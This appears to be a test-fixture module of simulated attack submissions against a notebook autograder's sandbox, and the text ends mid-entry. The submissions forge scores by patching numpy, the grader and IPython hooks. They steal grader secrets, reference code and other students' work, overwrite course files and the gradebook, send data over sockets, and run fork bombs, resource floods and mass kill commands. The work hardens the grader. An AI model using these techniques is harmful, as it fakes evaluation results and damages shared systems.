"""Attack submissions on assignment a2_lstm for tests/test_adversarial.py.

Each Attack is one student: a base submission (the released notebook untouched, worth 0 of 16, or the same with the
four gate functions solved, worth 4) plus attack code, put in an added cell, appended to or replacing a solution
cell, or applied to the notebook itself (cells moved, metadata edited). Attack code is a template: %%COURSE%%,
%%REPO%%, %%PORT%%, %%UDP%%, %%MARK%%, %%VENV_SITE%% are replaced by the real course folder, repository, the ports of
the test's listeners on 127.0.0.1, the marker string every process and file an attack makes carries, and the
virtual environment's site-packages: each attacker is assumed to know every path of the grading machine.

`expected` names the honest score: "wrong" (0 everywhere), "gates" (1 per gate, 0 elsewhere), or a dict of
{grade_id: score} overrides on top of the base.
"""

from __future__ import annotations

import dataclasses

GATES = ("input_gate", "forget_gate", "candidate", "output_gate")
TESTS = ("test_input_gate", "test_forget_gate", "test_candidate", "test_output_gate", "test_lstm_step_forward",
         "test_lstm_forward", "test_lstm_step_backward", "test_lstm_backward", "test_lstm_keras_match")


@dataclasses.dataclass
class Attack:
    name: str
    klass: str
    base: str  # "wrong" or "gates"
    cells: list = dataclasses.field(default_factory=list)  # (where, code): where = "after:<grade_id>" (a new
    #   cell after that one), "tail" (a new cell after every solution cell: the test cells are moved after it, in
    #   their order, so that its definitions are the ones checked), "last" (a new last cell, nothing moved),
    #   "solution:<grade_id>" (replaces the solution cell) or "append:<grade_id>" (added at the end of that cell)
    edit: object = None  # fn(nb) -> None: changes to the notebook itself
    expected: dict = dataclasses.field(default_factory=dict)  # grade_id -> honest score, on top of the base
    status: tuple = ("graded", "graded-with-problems")  # the grading report's status


# Wrong versions of every function (right shapes and dtypes, wrong values): what an attacker grades with.
WRONG_GATES = '''
import numpy as np

def input_gate(x_t, h_prev, W, U, b):
    return np.zeros_like(h_prev)

def forget_gate(x_t, h_prev, W, U, b):
    return np.zeros_like(h_prev)

def candidate(x_t, h_prev, W, U, b):
    return np.zeros_like(h_prev)

def output_gate(x_t, h_prev, W, U, b):
    return np.zeros_like(h_prev)
'''

WRONG_REST = '''
import numpy as np

def lstm_step_forward(x_t, h_prev, c_prev, W, U, b):
    return np.zeros_like(h_prev), np.zeros_like(c_prev), {"x_t": x_t, "h_prev": h_prev, "W": W, "U": U}

def lstm_forward(x, h0, c0, W, U, b):
    B, T, _ = x.shape
    z = np.zeros((B, T, h0.shape[1]), dtype=x.dtype)
    return z, z.copy(), [{"x_t": x[:, t], "h_prev": h0, "W": W, "U": U} for t in range(T)]

def lstm_step_backward(dh_t, dc_t, cache):
    W, U = cache["W"], cache["U"]
    B = dh_t.shape[0]
    return (np.zeros((B, W.shape[0]), W.dtype), np.zeros_like(dh_t), np.zeros_like(dc_t), np.zeros_like(W),
            np.zeros_like(U), np.zeros(W.shape[1], W.dtype))

def lstm_backward(dh, cache):
    B, T, H = dh.shape
    W, U = cache[0]["W"], cache[0]["U"]
    return (np.zeros((B, T, W.shape[0]), W.dtype), np.zeros((B, H), dh.dtype), np.zeros((B, H), dh.dtype),
            np.zeros_like(W), np.zeros_like(U), np.zeros(W.shape[1], W.dtype))

def get_params(layer):
    W, U, b = layer.get_weights()
    return 0 * W, 0 * U, 0 * b
'''
WRONG_ALL = WRONG_GATES + WRONG_REST

# a shape-correct wrong answer through an odd wrapper, for the output-type attacks
WRAP_ALL = '''
import numpy as np
_wrapped = {}
for _name in ("input_gate", "forget_gate", "candidate", "output_gate", "lstm_step_forward", "lstm_forward",
              "lstm_step_backward", "lstm_backward", "get_params"):
    _wrapped[_name] = globals()[_name]

def _wrap_out(v):
    if isinstance(v, tuple):
        return tuple(_wrap_out(x) for x in v)
    if isinstance(v, np.ndarray):
        return WRAP(v)
    return v

def _make(name):
    inner = _wrapped[name]
    def f(*args):
        return _wrap_out(inner(*args))
    f.__name__ = name
    return f

for _name in list(_wrapped):
    globals()[_name] = _make(_name)
'''


def _find(nb, grade_id):
    for index, cell in enumerate(nb.cells):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(grade_id)


def move_tests_to_end(nb, ids):
    """Move these test cells to the end of the notebook, in this order."""
    for grade_id in ids:
        nb.cells.append(nb.cells.pop(_find(nb, grade_id)))


def duplicate_tests(nb, source):
    """A copy of every test cell (same grade_id and metadata, a new cell id, this source) after the set-up cell."""
    import copy
    import uuid

    for grade_id in TESTS:
        cell = copy.deepcopy(nb.cells[_find(nb, grade_id)])
        cell.source, cell.id = source, uuid.uuid4().hex[:12]
        nb.cells.insert(_find(nb, "setup") + 1, cell)


def set_test_meta(nb, **changes):
    for grade_id in TESTS:
        nb.cells[_find(nb, grade_id)].metadata["nbgrader"].update(changes)


def replace_test_sources(nb, source):
    for grade_id in TESTS:
        nb.cells[_find(nb, grade_id)].source = source


A = Attack
ATTACKS = [
    # ------------------------------------------------------------------ comparators and numpy patched
    A("numpy_comparators_patched", "comparators and numpy patched", "wrong", [("tail", WRONG_ALL + '''
import numpy, numpy.testing, builtins, operator
T = lambda *a, **k: True
for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "isfinite", "any"):
    setattr(numpy, name, T)
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.core.numeric.allclose = T
operator.eq = operator.le = T
builtins.isinstance = T
builtins.len = lambda x: 0
print("numpy's comparators now say yes; %%MARK%%")
''')]),
    A("ufunc_and_dtype_table_patched", "comparators and numpy patched", "wrong", [("tail", WRONG_ALL + '''
import numpy as np
np.abs = np.absolute = lambda x, *a, **k: np.zeros_like(x)
np.max = np.amax = lambda *a, **k: 0.0
np.issubdtype = lambda *a, **k: True
np.dtype.__eq__ = lambda self, other: True  # a TypeError: numpy's types are immutable; the cell goes on
''' ), ("after:setup", '''
import numpy as np
try:
    np.ndarray.__eq__ = lambda self, other: True
except TypeError as exc:
    print("cannot patch ndarray:", exc)
np.seterr(all="ignore")
''')]),
    A("gates_ok_numpy_patched", "comparators and numpy patched", "gates", [("after:setup", '''
import numpy
numpy.allclose = numpy.isclose = numpy.array_equal = lambda *a, **k: True
numpy.isfinite = lambda x: numpy.ones(numpy.shape(x), bool)
''')]),

    # ------------------------------------------------------------------ grader and references patched in memory
    A("grader_modules_patched", "grader and references patched in memory", "wrong", [("tail", WRONG_ALL + '''
import sys, types
for name in ("course_pkg.checks.core", "course_pkg.checks.a2_lstm", "course_pkg.checks", "grader.scoring",
             "grader.engine", "grader.sandbox", "course_pkg.lstm"):
    try:
        module = __import__(name, fromlist=["x"])
    except Exception as exc:
        print("no", name, type(exc).__name__)
        module = types.ModuleType(name)
        sys.modules[name] = module
    module.compare = lambda *a, **k: None
    module.run_case = lambda *a, **k: types.SimpleNamespace(passed=True)
    module.grade_cell = lambda *a, **k: types.SimpleNamespace(text="16 of 16", score=16.0, error=None)
    module.check = module.grade = lambda *a, **k: print("16.0")
    for f in ("input_gate", "forget_gate", "candidate", "output_gate", "lstm_step_forward", "lstm_forward",
              "lstm_step_backward", "lstm_backward"):
        setattr(module, f, globals()[f])
''')]),
    A("reference_registry_replaced", "grader and references patched in memory", "wrong", [("tail", WRONG_ALL + '''
import sys, types, gc
fake = types.ModuleType("course_pkg.lstm")
for f in ("input_gate", "forget_gate", "candidate", "output_gate", "lstm_step_forward", "lstm_forward",
          "lstm_step_backward", "lstm_backward"):
    setattr(fake, f, globals()[f])
sys.modules["course_pkg.lstm"] = fake
import course_pkg
course_pkg.lstm = fake
n = 0
for obj in gc.get_objects():
    if isinstance(obj, dict) and "input_gate" in obj and obj is not globals():
        obj.update({k: getattr(fake, k) for k in dir(fake) if not k.startswith("_")})
        n += 1
    if type(obj).__name__ in ("Registry", "Spec"):
        print("found a", type(obj).__name__)
print("dicts rewritten:", n)
''')]),
    A("protocol_forged_from_worker", "protocol frames forged in the worker", "wrong", [("tail", WRONG_ALL + '''
import gc, json, os, socket, struct, sys
def frame(header, blobs=()):
    data = json.dumps(header).encode()
    out = struct.pack("<I", len(data)) + data + struct.pack("<I", len(blobs))
    for b in blobs:
        out += struct.pack("<Q", len(b)) + b
    return out
socks = [o for o in gc.get_objects() if isinstance(o, socket.socket)]
print("sockets in reach:", len(socks), "fds:", os.listdir("/proc/self/fd"))
proto = sys.modules.get("protocol")
if proto is not None:  # the harness's own codec: make every array it sends a copy of 16.0
    proto.ARRAY_KINDS = "biufcOUSV"
    old_encode = proto.encode
    proto.encode = lambda value, blobs, *a, **k: old_encode(value, blobs, *a, **k)
for s in socks:
    try:  # answers for the test cells, sent ahead of their requests; then an int JSON cannot hold
        s.sendall(frame({"op": "cell_done", "outputs": [{"output_type": "execute_result",
                                                           "data": {"text/plain": "16.0"}}]}))
        s.sendall(frame({"op": "result", "value": 16.0}) * 3)
        s.sendall(b"\\x10\\x00\\x00\\x00" + b'{"op": 1' + b"9" * 8)
    except OSError as exc:
        print("send failed", exc)
''')]),

    A("gates_ok_unreadable_frames", "protocol frames forged in the worker", "gates", [("after:setup", '''
import gc, socket, struct
s = [o for o in gc.get_objects() if isinstance(o, socket.socket)][0]
h = b'{"op": "cell_done", "outputs": ' + b"9" * 5000 + b"}"  # JSON whose int Python refuses to read
s.sendall(struct.pack("<I", len(h)) + h + struct.pack("<I", 0))
''')]),

    # ------------------------------------------------------------------ IPython hooks
    A("input_transformer_rewrites_tests", "IPython hooks", "wrong", [("tail", WRONG_ALL + '''
ip = get_ipython()
def rewrite(lines):
    return ["print(16.0)\\n" if "check(" in line or "grade(" in line else line for line in lines]
ip.input_transformers_cleanup.append(rewrite)
ip.input_transformers_post.append(rewrite)
import ast
class Forge(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.copy_location(ast.Constant(16.0), node) if getattr(node.func, "id", "") == "check" else node
ip.ast_transformers.append(Forge())
''')]),
    A("showtraceback_and_custom_exc", "IPython hooks", "wrong", [("after:setup", '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: print("16.0")
ip.showsyntaxerror = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: print("all good, 16.0"))
import sys
sys.excepthook = lambda *a: None
''')]),
    A("atexit_and_event_hooks", "IPython hooks", "wrong", [("tail", WRONG_ALL + '''
import atexit, os
def rewrite_gradebook():
    for path in ("%%COURSE%%/gradebook.db", "%%COURSE%%/autograded/grading_report.csv"):
        try:
            with open(path, "a") as fh:
                fh.write("%%MARK%% 16.0")
        except OSError as exc:
            print("atexit:", exc)
atexit.register(rewrite_gradebook)
ip = get_ipython()
ip.events.register("post_run_cell", lambda result: rewrite_gradebook())
ip.events.register("pre_run_cell", lambda info: print("16.0"))
import sys
sys.displayhook = lambda value: print("16.0")
''')]),
    A("gates_ok_ipython_hooks", "IPython hooks", "gates", [("after:setup", '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: [l.replace("check(", "print(16.0) or (") for l in lines])
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((Exception,), lambda *a, **k: None)
import atexit
atexit.register(lambda: print("16.0"))
''')]),

    # ------------------------------------------------------------------ outputs of odd types
    A("array_subclass_ufunc_true", "odd outputs (subclasses, __eq__, NaN, dtypes, shapes)", "wrong",
      [("tail", WRONG_ALL + '''
import numpy as np
class WRAP(np.ndarray):
    def __new__(cls, a):
        return np.asarray(a).view(cls)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    def __reduce__(self):
        return (print, ("16.0",))
''' + WRAP_ALL)]),
    A("object_eq_always_true", "odd outputs (subclasses, __eq__, NaN, dtypes, shapes)", "wrong",
      [("tail", WRONG_ALL + '''
class WRAP:
    def __init__(self, a):
        self.shape, self.dtype = a.shape, a.dtype
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __array_priority__ = 10**9
    def __array_ufunc__(self, *a, **k):
        return True
    def __array__(self, *a, **k):
        raise RuntimeError("16.0")
    def __float__(self):
        return 16.0
    def __len__(self):
        return 0
''' + WRAP_ALL)]),
    A("nan_and_inf", "odd outputs (subclasses, __eq__, NaN, dtypes, shapes)", "wrong", [("tail", WRONG_ALL + '''
import numpy as np
def WRAP(a):
    out = np.full_like(a, np.nan)
    out.flat[::2] = np.inf
    return out
''' + WRAP_ALL)]),
    A("gates_ok_float64_for_float32", "odd outputs (subclasses, __eq__, NaN, dtypes, shapes)", "gates",
      [(f"append:{g}", f'''
_{g}_right = {g}
def {g}(x_t, h_prev, W, U, b):  # right values, but float64 also on float32 inputs: those cases fail
    return _{g}_right(x_t, h_prev, W, U, b).astype(np.float64)
''') for g in GATES],
      expected={t: 0.67 for t in TESTS[:4]}),
    A("wrong_shapes_and_kinds", "odd outputs (subclasses, __eq__, NaN, dtypes, shapes)", "wrong",
      [("tail", WRONG_ALL + '''
import numpy as np
_kinds = [lambda a: a[:1], lambda a: a.T, lambda a: a.astype(np.complex128), lambda a: np.ma.masked_array(a),
          lambda a: np.asarray(a, dtype=np.longdouble), lambda a: a.astype(object), lambda a: a.tolist(),
          lambda a: np.matrix(a.reshape(a.shape[0], -1)), lambda a: a.astype(np.int64), lambda a: a.ravel(),
          lambda a: {"a": a}, lambda a: float("nan")]
_count = [0]
def WRAP(a):
    _count[0] += 1
    return _kinds[_count[0] % len(_kinds)](a)
''' + WRAP_ALL)]),
    A("huge_and_deep_outputs", "odd outputs (subclasses, __eq__, NaN, dtypes, shapes)", "wrong",
      [("tail", WRONG_ALL + '''
import numpy as np
_count = [0]
def WRAP(a):
    _count[0] += 1
    k = _count[0] % 4
    if k == 0:
        deep = a
        for _ in range(100):
            deep = [deep]
        return deep
    if k == 1:
        return 10 ** 5000
    if k == 2:
        return np.zeros(300 * 2**20 // 8)  # 300 MB, above the protocol's limit for one array
    return np.lib.stride_tricks.as_strided(a, shape=(10**6,) + a.shape, strides=(0,) + a.strides)
''' + WRAP_ALL)]),

    # ------------------------------------------------------------------ files
    A("read_source_and_solutions", "reading and using files", "wrong", [("tail", WRONG_ALL + '''
import glob, json, os
found = []
for pattern in ("%%COURSE%%/source/a2_lstm/*.ipynb", "../../../source/a2_lstm/*.ipynb", "../../source/*/*.ipynb",
                "/**/source/a2_lstm/*.ipynb", "%%COURSE%%/release/a2_lstm/*.ipynb", "%%REPO%%/assignments/source/*/*.ipynb"):
    try:
        found += glob.glob(pattern, recursive=True)
    except OSError:
        pass
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/usr", "/root/.pyenv")):
        dirs[:] = []
        continue
    found += [os.path.join(root, f) for f in files if f.endswith(".ipynb")]
print("notebooks found:", found)
for path in found:
    try:
        nb = json.load(open(path))
        for cell in nb["cells"]:
            src = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def " in src:
                exec(src, globals())
    except Exception as exc:
        print(path, exc)
''')]),
    A("read_gradebook_config_students", "reading and using files", "wrong", [("tail", WRONG_ALL + '''
import glob, json, os
for path in ("%%COURSE%%/gradebook.db", "%%COURSE%%/nbgrader_config.py", "%%COURSE%%/.grader_secret",
             "%%COURSE%%/autograded/grading_report.csv", "/proc/1/root%%COURSE%%/gradebook.db"):
    try:
        print(path, len(open(path, "rb").read()), "bytes: READABLE %%MARK%%")
    except OSError as exc:
        print(path, type(exc).__name__)
others = glob.glob("%%COURSE%%/submitted/*/a2_lstm/*.ipynb") + glob.glob("%%COURSE%%/autograded/*/a2_lstm/*.ipynb")
print("other students:", others)
for path in others:  # the perfect student's functions
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
    except Exception as exc:
        print(exc)
''')]),
    A("read_grader_and_references", "reading and using files", "wrong", [("tail", WRONG_ALL + '''
import glob, os, sys
sources = glob.glob("%%REPO%%/course_pkg/lstm.py") + glob.glob("%%REPO%%/grader/*.py")
sources += glob.glob("%%VENV_SITE%%/course_pkg/*.py") + glob.glob("/proc/*/cwd/course_pkg/lstm.py")
sources += glob.glob("/proc/*/root%%REPO%%/course_pkg/lstm.py")
print("reference sources:", sources)
for path in sources:
    if path.endswith("lstm.py"):
        try:
            ns = {}
            exec(open(path).read(), ns)
            globals().update({k: v for k, v in ns.items() if k in ("input_gate", "forget_gate", "candidate",
                              "output_gate", "lstm_step_forward", "lstm_forward", "lstm_step_backward",
                              "lstm_backward")})
        except Exception as exc:
            print(path, exc)
print("editable finder:", [p for p in sys.path if "editable" in p], sys.meta_path)
try:
    import __editable___course_pkg_0_1_0_finder as finder
    print("mapping:", finder.MAPPING)
    print(open(finder.MAPPING["course_pkg"] + "/lstm.py").read()[:100])
except Exception as exc:
    print("finder:", type(exc).__name__, exc)
''')]),
    A("gates_ok_read_secret", "reading and using files", "gates", [("after:setup", '''
import os
for path in ("%%COURSE%%/.grader_secret", "../.grader_secret", os.path.expanduser("~/.grader_secret")):
    try:
        print("secret:", open(path).read(), "%%MARK%%")
    except OSError as exc:
        print(path, type(exc).__name__)
''')]),

    # ------------------------------------------------------------------ stack frames and gc
    A("frames_and_gc_for_expected", "stack-frame and gc inspection", "wrong", [("tail", WRONG_REST + '''
import gc, sys
import numpy as np

def _steal(shape, dtype, avoid):
    """an array of the wanted shape from any frame above or anywhere in memory, not one of the inputs"""
    frame = sys._getframe(1)
    seen = []
    while frame is not None:
        for value in list(frame.f_locals.values()):
            seen.append(value)
            if isinstance(value, (tuple, list)):
                seen += list(value)
            if isinstance(value, dict):
                seen += list(value.values())
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if isinstance(o, (np.ndarray, dict))]
    for value in seen:
        if isinstance(value, np.ndarray) and value.shape == shape and value.dtype == dtype and not any(
                value is a for a in avoid):
            return value.copy()
    return np.zeros(shape, dtype)

def input_gate(x_t, h_prev, W, U, b):
    return _steal(h_prev.shape, h_prev.dtype, (x_t, h_prev, W, U, b))
forget_gate = candidate = output_gate = input_gate
''')]),
    A("gc_walk_for_references", "stack-frame and gc inspection", "wrong", [("tail", WRONG_ALL + '''
import gc, types, sys
hits = []
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__module__ and obj.__module__.startswith(("course_pkg.lstm",
                                                                                             "course_pkg.checks")):
        hits.append(obj)
    if isinstance(obj, dict) and ("expected" in obj or "secret" in obj):
        hits.append(sorted(map(str, obj))[:5])
print("reference objects in the worker:", hits[:10])
for frame in sys._current_frames().values():
    while frame:
        print(frame.f_code.co_filename, frame.f_code.co_name)
        frame = frame.f_back
for f in hits:
    if callable(f) and f.__name__ in globals():
        globals()[f.__name__] = f
''')]),

    # ------------------------------------------------------------------ references through importlib, eval, ...
    A("importlib_eval_sysmodules", "references via importlib, eval, defaults, closures, sys.modules", "wrong",
      [("tail", WRONG_ALL + '''
import importlib, importlib.util, sys
ref = None
for attempt in (lambda: importlib.import_module("course_pkg.lstm"),
                lambda: eval("__import__('course_pkg.lstm', fromlist=['lstm_forward'])"),
                lambda: importlib.util.module_from_spec(importlib.util.spec_from_file_location(
                    "lstm_ref", "%%REPO%%/course_pkg/lstm.py")),
                lambda: sys.modules["course_pkg"].lstm,
                lambda: next(m for n, m in list(sys.modules.items()) if m and hasattr(m, "lstm_step_backward"))):
    try:
        ref = attempt()
        spec = getattr(ref, "__spec__", None)
        if spec is not None and spec.loader is not None and not hasattr(ref, "lstm_forward"):
            spec.loader.exec_module(ref)
        break
    except Exception as exc:
        print("no reference:", type(exc).__name__, exc)
if ref is not None:
    for f in ("input_gate", "forget_gate", "candidate", "output_gate", "lstm_step_forward", "lstm_forward",
              "lstm_step_backward", "lstm_backward"):
        if hasattr(ref, f):
            globals()[f] = getattr(ref, f)
''')]),
    A("kept_callback_stubs_defaults_closures", "references via importlib, eval, defaults, closures, sys.modules",
      "wrong", [("after:setup", '''
import numpy as np
KEPT = {}  # the reference stubs the grader binds inside a function while it is checked, kept for later
def _keep(g):
    for name in ("input_gate", "forget_gate", "candidate", "output_gate", "lstm_step_forward",
                 "lstm_step_backward"):
        f = g.get(name)
        if f is not None and getattr(f, "__name__", "") == "reference":
            KEPT.setdefault(name, f)
'''), ("solution:lstm_step_forward", '''
def lstm_step_forward(x_t, h_prev, c_prev, W, U, b, _kept=KEPT):  # the defaults hold the kept stubs
    _keep(globals())
    i = input_gate(x_t, h_prev, W, U, b)
    return np.zeros_like(h_prev), np.zeros_like(c_prev), {"i": i}
'''), ("solution:lstm_forward", '''
def lstm_forward(x, h0, c0, W, U, b):
    _keep(globals())
    B, T, _ = x.shape
    z = np.zeros((B, T, h0.shape[1]), dtype=x.dtype)
    return z, z.copy(), [None] * T
'''), ("solution:lstm_backward", '''
def lstm_backward(dh, cache):
    _keep(globals())
    raise ValueError("only here to keep stubs")
'''), ("solution:lstm_step_backward", '''
def lstm_step_backward(dh_t, dc_t, cache):
    ref = KEPT.get("lstm_step_backward")  # kept during lstm_backward's check, used during this one
    return ref(dh_t, dc_t, cache)
'''), ("solution:input_gate", '''
def _closure():
    def input_gate(x_t, h_prev, W, U, b):  # the gate's check runs last: use the step check's kept stub
        for name in ("input_gate", "lstm_step_forward"):
            if name in KEPT:
                out = KEPT[name](x_t, h_prev, W, U, b)
                return out[0] if isinstance(out, tuple) else out
        return np.zeros_like(h_prev)
    return input_gate
input_gate = _closure()
''')], edit=lambda nb: move_tests_to_end(nb, ("test_input_gate", "test_lstm_step_backward"))),
    A("gates_ok_reference_hunt", "references via importlib, eval, defaults, closures, sys.modules", "gates",
      [("append:lstm_step_forward", '''
import sys
def lstm_step_forward(x_t, h_prev, c_prev, W, U, b, _ref=sys.modules.get("course_pkg.lstm")):
    if _ref is not None:
        return _ref.lstm_step_forward(x_t, h_prev, c_prev, W, U, b)
    f = globals().get("__builtins__")
    return np.zeros_like(h_prev), np.zeros_like(c_prev), {"W": W, "U": U}
''')]),

    # ------------------------------------------------------------------ random state
    A("random_state_controlled", "controlling random state", "wrong", [("tail", WRONG_ALL + '''
import numpy as np, random, os
class Zeros:
    def __getattr__(self, name):
        return lambda *a, size=None, **k: np.zeros(size if size is not None else (a[-1] if a and isinstance(a[-1], tuple) else ()))
np.random.default_rng = lambda *a, **k: Zeros()
np.random.Generator = Zeros
np.random.seed(0)
np.random.standard_normal = lambda *a, **k: 0.0
random.seed(0)
os.environ["PYTHONHASHSEED"] = "0"
''')]),
    A("gates_ok_random_state", "controlling random state", "gates", [("after:setup", '''
import numpy as np
np.random.default_rng = lambda *a, **k: np.random.Generator(np.random.PCG64(0))
np.random.seed(1234)
''')]),

    # ------------------------------------------------------------------ writing course files
    A("write_course_files", "writing course files", "wrong", [("tail", WRONG_ALL + '''
import os
targets = ["%%COURSE%%/nbgrader_config.py", "%%COURSE%%/gradebook.db", "%%COURSE%%/.grader_secret",
           "%%COURSE%%/source/a2_lstm/a2_lstm.ipynb", "%%COURSE%%/release/a2_lstm/a2_lstm.ipynb",
           "%%COURSE%%/submitted/perfect/a2_lstm/a2_lstm.ipynb", "%%REPO%%/course_pkg/lstm.py",
           "%%REPO%%/course_pkg/checks/core.py", "%%REPO%%/grader/engine.py", "%%REPO%%/grader/scoring.py",
           "%%VENV_SITE%%/zz_%%MARK%%.pth", "%%VENV_SITE%%/sitecustomize.py", "/grader_worker/protocol.py",
           "../../nbgrader_config.py", "/proc/1/root%%COURSE%%/nbgrader_config.py"]
for path in targets:
    for mode in ("a", "w"):
        try:
            with open(path, mode) as fh:
                fh.write("\\nimport os  # %%MARK%%\\n")
            print("WROTE", path)
        except OSError as exc:
            print(path, type(exc).__name__)
for d in ("%%COURSE%%", "%%REPO%%/course_pkg", "%%VENV_SITE%%"):
    try:
        os.rename(d + "/nbgrader_config.py", d + "/old_%%MARK%%")
    except OSError as exc:
        print("rename", d, type(exc).__name__)
''')]),
    A("gates_ok_write_course_files", "writing course files", "gates", [("after:setup", '''
for path in ("%%COURSE%%/gradebook.db", "%%REPO%%/course_pkg/checks/a2_lstm.py", "%%COURSE%%/.grader_secret"):
    try:
        open(path, "w").write("%%MARK%%")
    except OSError as exc:
        print(path, type(exc).__name__)
''')]),

    # ------------------------------------------------------------------ detached processes, gradebook rewrites
    A("detached_gradebook_rewriter", "detached processes and gradebook rewrites", "wrong",
      [("tail", WRONG_ALL + '''
import os, subprocess, sys, threading, time
payload = """# %%MARK%%
import time, sqlite3
for _ in range(200):
    time.sleep(0.1)
    for path in ("%%COURSE%%/gradebook.db", "/proc/1/root%%COURSE%%/gradebook.db"):
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("update grade set auto_score = 16, manual_score = 16")
            db.commit()
        except Exception:
            pass
        try:
            open("%%COURSE%%/autograded/grading_report.csv", "a").write("%%MARK%%,a2_lstm,graded,16,16,")
        except Exception:
            pass
"""
for argv in ([sys.executable, "-c", payload], ["nohup", sys.executable, "-c", payload],
             ["setsid", sys.executable, "-c", payload], ["sh", "-c", "sleep 30 # %%MARK%%"]):
    try:
        subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, close_fds=True, env={})
    except OSError as exc:
        print(argv[0], exc)
pid = os.fork()  # the classic double fork
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", payload])
    os._exit(0)
os.waitpid(pid, 0)
threading.Thread(target=lambda: [time.sleep(0.1) for _ in range(10**6)], daemon=False).start()
''')]),
    A("gates_ok_detached_process", "detached processes and gradebook rewrites", "gates", [("after:setup", '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "# %%MARK%%\\nimport os, time\\nos.setsid()\\ntime.sleep(120)"],
                 start_new_session=True)
''')]),

    # ------------------------------------------------------------------ network
    A("network_exfiltration", "network", "wrong", [("tail", WRONG_ALL + '''
import socket
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", %%PORT%%)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("::1", %%PORT%%)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", %%UDP%%)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("10.0.2.2", 80)),
                              (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        s.connect(address)
        s.sendall(b"%%MARK%% source notebook follows")
        print("CONNECTED", address)
    except OSError as exc:
        print(address, type(exc).__name__, exc)
for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print("CONNECTED", path)
    except OSError as exc:
        print(path, type(exc).__name__)
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as exc:
    print("dns", exc)
''')]),
    A("gates_ok_network_in_function", "network", "gates", [("append:lstm_forward", '''
import socket
def lstm_forward(x, h0, c0, W, U, b):
    for port, kind in ((%%PORT%%, socket.SOCK_STREAM), (%%UDP%%, socket.SOCK_DGRAM)):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(0.5)
            s.connect(("127.0.0.1", port))
            s.send(x.tobytes())
        except OSError:
            pass
    B, T, _ = x.shape
    z = np.zeros((B, T, h0.shape[1]), dtype=x.dtype)
    return z, z.copy(), []
''')]),

    # ------------------------------------------------------------------ forks, memory, disk, output floods
    A("fork_bomb", "forks, memory, disk and output floods", "wrong", [("tail", WRONG_ALL + '''
import os, time
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:  # a child forks on too, and spins  (%%MARK%%)
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
except OSError as exc:
    print("fork stopped after", children, exc)
''')]),
    A("memory_flood", "forks, memory, disk and output floods", "gates", [("after:setup", '''
import numpy as np
hoard = []
try:
    hoard.append(bytearray(10**11))
except MemoryError:
    print("one huge block: MemoryError")
try:
    while True:
        hoard.append(np.ones(2**27))  # 1 GiB at a time, touched
except MemoryError:
    print("hoarded", len(hoard), "GiB before MemoryError")
hoard.clear()
''')]),
    A("disk_flood", "forks, memory, disk and output floods", "gates", [("after:setup", '''
import os
block = b"%%MARK%%" * (2**20 // 8)
written = 0
for folder in (".", "/scratch", "/tmp", "/dev/shm", os.path.expanduser("~"), "%%COURSE%%"):
    for k in range(40):
        try:
            with open(f"{folder}/flood{k}", "wb") as fh:
                for _ in range(2048):  # 2 GB per file, if nothing stops it
                    fh.write(block)
                    written += len(block)
        except OSError as exc:
            print(folder, k, type(exc).__name__, exc.errno)
            if exc.errno != 27:
                break
print("written", written >> 20, "MB")
''')]),
    A("output_flood", "forks, memory, disk and output floods", "gates", [("after:setup", '''
import sys
from IPython.display import display
for _ in range(400):
    print("16.0 " * 50000)
    sys.stderr.write("x" * 100000)
for k in range(20000):
    display({"text/plain": "16.0" * 100}, raw=True)
raise ValueError("v" * 10**7)
''')]),

    # ------------------------------------------------------------------ exits, killing the parent, endless loops
    A("os_exit_mid_notebook", "os._exit, killing the parent, endless loops", "gates", [("after:test_forget_gate", '''
import os
os._exit(0)
'''), ("last", '''
import os, sys
sys.stdout.flush()
os._exit(3)
''')]),
    A("kill_parent_and_everyone", "os._exit, killing the parent, endless loops", "gates",
      [("after:test_candidate", '''
import os, signal, subprocess
for target in (os.getppid(), 0, -1, 1, -os.getpgrp()):
    try:
        os.kill(target, signal.SIGKILL)
        print("sent SIGKILL to", target)
    except OSError as exc:
        print(target, exc)
subprocess.run(["kill", "-9", "-1"])
subprocess.run(["sh", "-c", "kill -9 -1; pkill -9 python; killall -9 python3"], capture_output=True)
for pid in map(int, [p for p in os.listdir("/proc") if p.isdigit()]):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''')]),
    A("endless_loops", "os._exit, killing the parent, endless loops", "gates", [("after:setup", '''
while True:
    pass
'''), ("after:setup", '''
import signal
